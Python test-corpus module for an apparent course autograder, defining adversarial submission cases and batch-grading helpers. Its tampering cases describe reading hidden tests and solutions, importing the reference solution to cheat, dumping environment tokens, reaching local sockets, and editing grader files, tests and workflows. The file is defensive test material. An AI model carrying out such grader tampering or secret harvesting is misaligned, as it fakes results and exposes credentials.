    Case("metrics_nan_strings", "NaN and strings in place of numbers", _metrics(_nan_strings),
         Expect(M9, [Rule(r"metrics", BROKEN, ("intensity_b",))])),
    Case("metrics_forged", "the five seed keys hand-written, not matching the recorded config",
         _metrics(_forged),
         Expect(M9, [Rule(r"metrics", BROKEN, ("your own m9_record",))])),
    Case("metrics_100mb", "a 100 MB metrics.json", _hundred_mb,
         Expect(M9, [Rule("metrics", BROKEN, ("metrics.json not found", "MB"))],
                warnings=("metrics.json",))),
    Case("metrics_other_keys", "other milestones' keys beside m9_roofline are kept and ignored",
         _metrics(lambda c: {"m1_tokenizer": {"vocab": 4096}, **c.metrics,
                             "m10_serving": [1, 2, 3]}),
         Expect(M9, [])),
    Case("save_metric_drops_keys", "save_metric overwrites the file with its key only",
         patched(M9, "save_metric", '''
             with open(path, "w") as fh:
                 json.dump({key: value}, fh)
         '''),
         # json.dump itself refuses a numpy array with TypeError, as the rule asks
         Expect(M9, [Rule(r"value=numpy array", ("passed",), ()),
                     Rule(_fn("save_metric"), BROKEN, ("key", "keep", "did not create"))])),
    # --- tampering ---------------------------------------------------------------------------
    Case("reads_hidden_tests", "m9_record returns the text of tests/hidden and solutions "
         "(by path from the course root and grader.__file__, and by walking /)",
         with_source(M9, lambda s, c: patch(s, "m9_record", READ_HIDDEN.format(
             root=str(c.root)))),
         Expect(M9, [Rule(_fn("m9_record"), BROKEN, ("got str", "returned"))],
                check=_no_canary)),
    Case("cheats_with_solutions", "kv_bytes_per_token imports the reference solution if it can "
         "find it, else returns 0",
         with_source(M9, lambda s, c: patch(s, "kv_bytes_per_token", CHEAT_WITH_SOLUTIONS.format(
             root=str(c.root)))),
         Expect(M9, [Rule(KV, BROKEN, ()), SERVING_INVALID,
                     Rule(r"\[(decode_intensity|crossover_batch)\(|without_kv_cache", OK, ()),
                     Rule(CASCADE_KV, BROKEN, ())], check=_no_canary)),
    Case("env_token_scan", "prints the environment at import and returns it from m9_record",
         with_source(M9, _env_scan),
         Expect(M9, [Rule(_fn("m9_record"), BROKEN, ())], check=_no_token),
         env={"GITHUB_TOKEN": FAKE_TOKEN, "GRADER_PAT": FAKE_TOKEN}),
    Case("socket_to_localhost", "m9_record connects to a server on 127.0.0.1 and sends data",
         with_source(M9, _socket),
         Expect(M9, [])),  # the test asserts the server saw nothing when no-network is active
    Case("fork_server_socket", "m9_record looks for the batch's fork server socket (pymp-*/listener-*"
         " in the temp dir, any unix socket under /tmp, /run, /var/tmp, its cwd) and connects",
         with_source(M9, _fork_server),
         Expect(M9, [])),  # graded in the batch, whose children the fork server forks
    Case("edits_tests_and_grader", "an untouched release plus edits to conftest.py, tests/, "
         "grader/, workflows, pyproject.toml and course.toml", _untouched_release_with_tampering,
         Expect(M9, [Rule(_student_tests(M9), BROKEN, ("is still the stub", "not done yet",
                                                       "NotImplementedError"))],
                warnings=("conftest.py", "tests/public/m9_roofline/test_free_points.py",
                          "grader/suites/plugin.py", ".github/workflows/grade.yml", "pyproject.toml",
                          "course.toml"))),
    Case("monkeypatches_worker", "patches numpy, math, builtins and pytest inside the worker, "
         "with a wrong num_params",
         with_source(M9, lambda s, c: patch(insert_cell_before(s, "validate_config", MONKEYPATCH),
                                            "num_params", "return 7")),
         Expect(M9, [Rule(r"test_metrics_", BROKEN, ()),  # m9_record reproduces with num_params
                     Rule(r"\[(decode_intensity|crossover_batch|m9_record|kv_bytes)|"
                          r"without_kv_cache|test_crossover_batch_(examples|none)", OK, ()),
                     SERVING_INVALID,
                     Rule(_fn("num_params") + "|test_decode_intensity_random|"
                          "test_crossover_batch_random|test_m9_record_random|unknown_key_rejected|"
                          "tokens_per_s|test_kv_cache_fits|test_metrics_|test_wrong_type|"
                          "test_untied_input|test_matmul_params|test_max_batch|"
                          "test_decode_step_breakdown|test_prefill|test_ttft|"
                          "test_decode_utilization|test_ragged_decode_step|"
                          "test_continuous_batching", BROKEN, ())])),
    Case("symlink_outside", "the notebook and metrics.json are symlinks to files outside",
         _symlinks,
         Expect(M9, [Rule("metrics", BROKEN, ("not found",)),
                     Rule(_student_tests(M9), BROKEN, ("neither", "symlink", "not found"))],
                error=("symlink",), warnings=("symlinks are not taken",))),
    Case("dotdot_names", "files and folders named with '..' beside a correct notebook", _dotdot,
         Expect(M9, [], warnings=("..evil.py", "..hidden"))),
    # --- notebooks ---------------------------------------------------------------------------
    Case("notebook_corrupt", "only a corrupt .ipynb", _corrupt_ipynb,
         Expect(M9, [Rule(_student_tests(M9), BROKEN, ("not a readable notebook",))],
                error=("not a readable notebook",))),
    Case("notebook_corrupt_py_unchanged", "corrupt .ipynb beside the untouched release .py",
         _corrupt_ipynb_with_release_py,
         Expect(M9, [Rule(_student_tests(M9), BROKEN, ("not a readable notebook",))],
                error=("unchanged from the release",))),
    Case("notebook_only_ipynb", "only the .ipynb (a Colab student)", _ipynb_only, Expect(M9, [])),
    Case("notebook_py_ipynb_disagree", ".py untouched release, .ipynb holds the work", _disagree,
         Expect(M9, [])),
    Case("notebook_both_changed", ".py and .ipynb both changed and different: .ipynb graded",
         _both_changed,
         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ())], warnings=("both differ",))),
    Case("notebook_50mb_outputs", "an .ipynb with 50 MB of outputs", _huge_outputs,
         Expect(M9, [Rule(_student_tests(M9), BROKEN, ("MB limit", "neither"))],
                error=("MB",), warnings=("MB",))),
    Case("non_ascii", "non-ASCII identifiers, strings, comments and file names", _non_ascii,
         Expect(M9, [])),
]


# Each attack family added after the first corpus keeps its cases in a module of its own
# (cases_<family>.py beside this file, each defining CASES: list[Case]), so that families grow
# without touching one another's lines.
FAMILIES = ("forgery", "isolation", "bounds", "metrics", "cells", "memory", "privacy", "zoo")


def _family_cases() -> list[Case]:
    import importlib

    return [case for family in FAMILIES
            for case in importlib.import_module(f"cases_{family}").CASES]


def _small(result) -> None:
    size = len(result.to_json())
    assert size < 400_000, f"the result JSON is {size} bytes: output leaked into it"


CASES += _family_cases()


def by_name() -> dict[str, Case]:
    names = [c.name for c in CASES]
    assert len(names) == len(set(names)), "duplicate case names"
    return {c.name: c for c in CASES}


# ----------------------------------------------------------------------------- corpus root


def make_corpus_root(real_root: Path, dest: Path) -> Path:
    """A copy of the course (manifest with CORPUS_LIMITS, suites, solutions, release) + canaries."""
    dest.mkdir(parents=True, exist_ok=True)
    text = (real_root / "course.toml").read_text(encoding="utf-8")
    for key, value in CORPUS_LIMITS.items():
        text, n = re.subn(rf"(?m)^{key}\s*=\s*[0-9.]+", f"{key} = {value}", text)
        assert n == 1, key
    (dest / "course.toml").write_text(text, encoding="utf-8")
    for sub in ("tests/public", "tests/hidden", "solutions", "exercises"):
        if (real_root / sub).is_dir():
            shutil.copytree(real_root / sub, dest / sub,
                            ignore=shutil.ignore_patterns("__pycache__", ".ipynb_checkpoints"))
    for aid in (M9, GF):
        hidden = dest / "tests" / "hidden" / aid
        hidden.mkdir(parents=True, exist_ok=True)
        (hidden / "CANARY.txt").write_text(CANARY + "\n")
    (dest / "solutions" / "metrics-canary.json").write_text(json.dumps({"canary": CANARY}))
    return dest


def make_ctx(root: Path, real_root: Path, port: int = 0) -> Ctx:
    from grader.core.course import load_course
    from grader.demo.samples import _reference_metrics

    course = load_course(root)
    solutions = {a: (root / "solutions" / a / f"{a}.py").read_text(encoding="utf-8")
                 for a in course.assignment_ids}
    return Ctx(root=root, solutions=solutions, metrics=_reference_metrics(course), port=port,
               real_root=real_root)


def build_all(ctx: Ctx, dest: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write every (or the named) corpus submission into dest/<name>/."""
    out = {}
    for case in CASES:
        if names is not None and case.name not in names:
            continue
        folder = dest / student_of(case)
        folder.mkdir(parents=True)
        case.build(folder, ctx)
        out[case.name] = folder
    return out


def student_of(case: Case) -> str:
    """The student id a case is graded as (also its folder in a batch)."""
    return case.name.replace("_", "-")


def case_course(course: Any, case: Case) -> Any:
    """The course a case is graded against: the corpus course, with the case's own limits."""
    import batch_child

    return batch_child.with_limits(course, scaled(case.expect.limits))


def batch_grade_one(root: Path, names: list[str], probe: Any = None
                    ) -> tuple[dict[str, str], Callable[..., Any]]:
    """The named cases' student ids (to their assignments) and the `grade_one` that grades them
    in grader.batch's children (batch_child.grade_one), each with its env and limits."""
    import functools

    import batch_child

    cases = [c for c in CASES if c.name in names]
    students = {student_of(c): c.expect.assignment for c in cases}
    grade_one = functools.partial(
        batch_child.grade_one,
        root=str(root),
        assignments={student_of(c): c.expect.graded for c in cases},
        envs={student_of(c): c.env for c in cases if c.env},
        limits={student_of(c): scaled(c.expect.limits) for c in cases if c.expect.limits},
        probe=probe,
    )
    return students, grade_one


def fake_result(student: str, score: float) -> GradeResult:
    """A graded M9 result of 5 one-point tests, `score` on the first: what the gradebook
    writer tests record (importable by their child processes, which have no pytest)."""
    tests = [
        TestResult(
            f"public/test_fake_{i}",
            score if i == 0 else 0.0,
            1.0,
            "passed" if i == 0 and score else "failed",
        )
        for i in range(5)
    ]
    return GradeResult(
        student,
        score,
        5.0,
        Environment("cpu", True),
        [AssignmentResult(M9, score, 5.0, raw_score=score, tests=tests)],
        timestamp="2026-12-01T00:00:00+00:00",
    )
